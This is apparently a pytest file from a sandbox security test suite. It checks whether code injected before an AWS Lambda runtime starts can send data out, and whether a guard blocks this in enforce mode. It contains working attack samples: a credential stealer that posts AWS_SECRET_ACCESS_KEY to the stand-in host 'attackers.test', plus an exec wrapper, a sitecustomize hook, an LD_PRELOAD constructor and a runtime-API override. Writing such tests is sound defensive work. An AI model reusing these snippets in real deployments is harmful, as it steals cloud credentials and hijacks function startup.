"""D06: What runs before the runtime does: exec wrapper, `LD_PRELOAD`, `PYTHONPATH`, `sitecustomize`.

Knows the ways in. Does not stop them: all of it is the function's own, and learns no more than it.
"""

from __future__ import annotations

import subprocess

import pytest

from tests.attacks.walled import TRIGGER, Walled, machine

HANDLER = """
import os
def handler(event, context):
    return {name: value for name, value in os.environ.items() if name.startswith(('AWS_LAMBDA_R', 'TAKEN'))}
"""
STEALER = """
import os, urllib.request
def steal(by):
    text = f"{by} {os.environ.get('AWS_SECRET_ACCESS_KEY', '')}".encode()
    try: urllib.request.urlopen(f"http://{os.environ['TELLS']}/{by}", text, timeout=10).read()
    except OSError: pass
"""
WRAPPER = """#!/bin/sh
"$1" -S -c "import sys; sys.path.append('/var/task'); import stealer; stealer.steal('wrapper')"
exec "$@"
"""
PRELOADED = """
#include <stdlib.h>
__attribute__((constructor)) static void taken(void) { setenv("TAKEN", "preloaded", 1); }
"""
VARIABLES = {
    "AWS_LAMBDA_EXEC_WRAPPER": "/var/task/wrapper",
    "PYTHONPATH": "/var/task/first",
    "LD_PRELOAD": "/var/task/taken.so",
    "AWS_LAMBDA_RUNTIME_API": "attackers.test",
}


def lay(walled: Walled, host: str) -> Walled:
    walled.lay(HANDLER, {**VARIABLES, "TELLS": host}, stealer=STEALER)
    (walled.folder / "wrapper").write_text(WRAPPER)
    (walled.folder / "wrapper").chmod(0o755)
    first = walled.folder / "first"
    first.mkdir()
    (first / "awslambdaric.py").write_text("raise SystemExit('theirs')")
    (first / "stealer.py").write_text(STEALER)
    (first / "sitecustomize.py").write_text("import stealer; stealer.steal('sitecustomize')")
    source = walled.folder / "taken.c"
    source.write_text(PRELOADED)
    compiler = ["cc", "-shared", "-fPIC", "-o", str(walled.folder / "taken.so"), str(source)]
    subprocess.run(compiler, check=False, capture_output=True)
    return walled


@pytest.mark.parametrize(("mode", "arrives"), [("off", True), ("audit", True), ("enforce", False)])
def test_what_runs_first_leaves_with_the_guard_off_and_not_enforced(
    walled: Walled, mode: str, arrives: bool
) -> None:
    with machine() as (port, told):
        walled.resolve = {("attackers.test", 80): ("127.0.0.1", port)}
        ran = lay(walled, "attackers.test").run({}, mode, trigger=TRIGGER)
        assert any("wrapper" in each for each in told) == arrives, (told, ran.told)
        assert (told == []) != arrives
        assert ("valve:Visit" in ran.refused) == (mode != "off")


def test_reserved_variables_are_not_the_function_s_to_set(walled: Walled) -> None:
    with machine() as (port, _):
        walled.resolve = {("kept.test", 80): ("127.0.0.1", port)}
        walled.lay(HANDLER, {"AWS_LAMBDA_RUNTIME_API": "attackers.test", "TAKEN": "own"})
        ran = walled.run({}, trigger=TRIGGER)
        assert ran.told["AWS_LAMBDA_RUNTIME_API"] == "127.0.0.1:9001"
        assert ran.told["TAKEN"] == "own", "the twin: a variable of one's own"
